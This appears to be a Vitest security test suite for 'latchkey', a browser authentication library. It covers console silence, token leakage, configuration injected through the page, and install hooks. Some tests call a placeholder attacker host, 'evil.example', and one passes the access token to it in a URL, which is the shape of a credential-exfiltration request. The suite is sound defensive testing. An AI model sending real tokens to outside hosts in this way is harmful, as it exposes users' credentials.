import { readdirSync, readFileSync } from 'node:fs';
import { createSession, memoryStore, type SessionRecord } from 'latchkey';
import { simpleJwt } from 'latchkey/backends';
import { createFakeClock } from 'latchkey/testing';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ALICE, API, createWorld } from '../support/world.ts';

const manifest = JSON.parse(readFileSync('package.json', 'utf8'));

afterEach(() => {
  document.body.innerHTML = '';
  localStorage.clear();
});

/** Everything that the page could use to speak to a developer. */
function listenToConsole(): () => number {
  const methods = ['log', 'info', 'warn', 'error', 'debug', 'trace', 'dir', 'table', 'group', 'assert'] as const;
  const spies = methods.map((method) => vi.spyOn(console, method).mockImplementation(() => {}));
  return () => spies.reduce((sum, spy) => sum + spy.mock.calls.length, 0);
}

async function live(): Promise<ReturnType<typeof createWorld>> {
  const world = createWorld();
  await world.session.signIn(ALICE);
  await world.fetch('https://evil.example/x');
  world.backend.onRefresh(() => Promise.reject(new TypeError('offline')));
  await world.session.refresh().catch(() => undefined);
  world.session.on('signed-out', () => {
    throw new Error('a listener of the app');
  });
  await world.session.signOut();
  return world;
}

describe('the console', () => {
  it('stays empty, whatever goes wrong (LOG-7)', async () => {
    const lines = listenToConsole();
    vi.stubGlobal('reportError', () => {});
    const world = await live();
    expect(world.events.filter((event) => event.startsWith('diagnostic')).length).toBeGreaterThan(1);
    expect(lines()).toBe(0);
  });

  it('stays empty when storage, the URL or a global asks for debugging (LOG-7, PPL-5)', async () => {
    const lines = listenToConsole();
    vi.stubGlobal('reportError', () => {});
    for (const key of ['debug', 'latchkey', 'latchkey.debug', 'latchkey:debug', 'DEBUG'])
      localStorage.setItem(key, '*');
    for (const key of ['DEBUG', 'debug', '__LATCHKEY_DEBUG__', '__DEV__', 'latchkeyDebug']) vi.stubGlobal(key, true);
    history.replaceState(null, '', '?debug=1&latchkey=debug#debug');
    const world = await live();
    expect(lines()).toBe(0);
    expect(world.session).not.toHaveProperty('debug');
  });

  it('gets no token from a diagnostic: sessions are told by generation, tokens not at all (LOG-5)', async () => {
    const messages: string[] = [];
    const world = createWorld();
    world.session.on('diagnostic', ({ message }) => messages.push(message));
    await world.session.signIn(ALICE);
    const token = (await world.session.getAccessToken()) ?? '';
    await world.fetch(`https://evil.example/?token=${token}`);
    await world.session.signOut();
    expect(messages).toHaveLength(1);
    for (const part of [token, ...token.split('.'), 'refresh-1']) expect(messages.join()).not.toContain(part);
  });
});

describe('the page', () => {
  it('does not configure anything: neither globals nor elements of its markup are read (PPL-5)', async () => {
    document.body.innerHTML =
      '<form name="latchkey" id="default"><input name="resourceServers"></form><img name="baseURI"><img id="allowInsecure">';
    for (const name of ['latchkey', 'resourceServers', 'allowInsecure', 'backend', 'allowedOrigins']) {
      vi.stubGlobal(name, ['https://evil.example']);
    }
    Object.defineProperty(document, 'baseURI', { configurable: true, get: () => document.querySelector('img') });
    const world = createWorld();
    await world.session.signIn(ALICE);
    await world.fetch('https://evil.example/x').catch(() => undefined);
    await world.fetch(`${API}/x`);
    Reflect.deleteProperty(document, 'baseURI');
    expect(world.seen.map(({ authorization }) => typeof authorization)).toEqual(['undefined', 'string']);
  });

  it('may watch and mock: the fetch that is there when it is needed is the one that is used (PPL-3)', async () => {
    const record = { tokens: { refreshToken: 'r' } } as SessionRecord;
    const session = createSession({
      backend: simpleJwt({ baseUrl: `${API}/auth` }),
      store: memoryStore(),
      clock: createFakeClock(),
    });
    const watched: string[] = [];
    vi.stubGlobal('fetch', async (input: string) => {
      watched.push(input);
      return Response.json({ access: 'a', refresh: record.tokens.refreshToken });
    });
    await session.signIn({ username: 'alice', password: 'right' });
    expect(watched).toEqual([`${API}/auth/token/`]);
  });

  it('may have the strictest policy: nothing evaluates text, makes a blob worker or a Trusted Types policy (PPL-6)', async () => {
    const refuse = (): never => {
      throw new Error('blocked by the policy');
    };
    vi.stubGlobal('eval', refuse);
    vi.stubGlobal('Function', Object.assign(refuse, { prototype: Function.prototype }));
    vi.stubGlobal('Worker', refuse);
    vi.stubGlobal('trustedTypes', { createPolicy: refuse });
    vi.stubGlobal('reportError', () => {});
    vi.spyOn(URL, 'createObjectURL').mockImplementation(refuse);
    expect((await live()).session.getState().status).toBe('signed-out');
  });
});

describe('the package', () => {
  it('brings two dependencies, runs nothing when it is installed, and has no side effects (PPL-7)', () => {
    expect(Object.keys(manifest.dependencies)).toEqual(['jwt-decode', 'mitt']);
    expect(manifest.sideEffects).toBe(false);
    const hooks = ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish'];
    expect(Object.keys(manifest.scripts ?? {}).filter((script) => hooks.includes(script))).toEqual([]);
    for (const peer of Object.keys(manifest.peerDependencies)) {
      expect(manifest.peerDependenciesMeta[peer]).toEqual({ optional: true });
    }
  });

  it('is locked part by part by its hash, and to no place but the registry (PPL-7)', () => {
    const { packages } = JSON.parse(readFileSync('package-lock.json', 'utf8'));
    const ours = new Set<string | undefined>([
      '',
      'docs',
      ...readdirSync('test/frameworks').map((name) => `test/frameworks/${name}`),
    ]);
    const locked = Object.entries<{ resolved?: string; integrity?: string; link?: true }>(packages).filter(
      ([name, { link, resolved }]) => !ours.has(name) && !(link && ours.has(resolved)),
    );
    // The place is left out where it is the registry's own.
    const isRight = ({ resolved, integrity }: { resolved?: string; integrity?: string }): boolean =>
      (resolved ?? 'https://registry.npmjs.org/').startsWith('https://registry.npmjs.org/') &&
      integrity?.startsWith('sha512-') === true;
    expect(locked.filter(([, entry]) => !isRight(entry)).map(([name]) => name)).toEqual([]);
    expect(locked.length).toBeGreaterThan(20);
  });
});
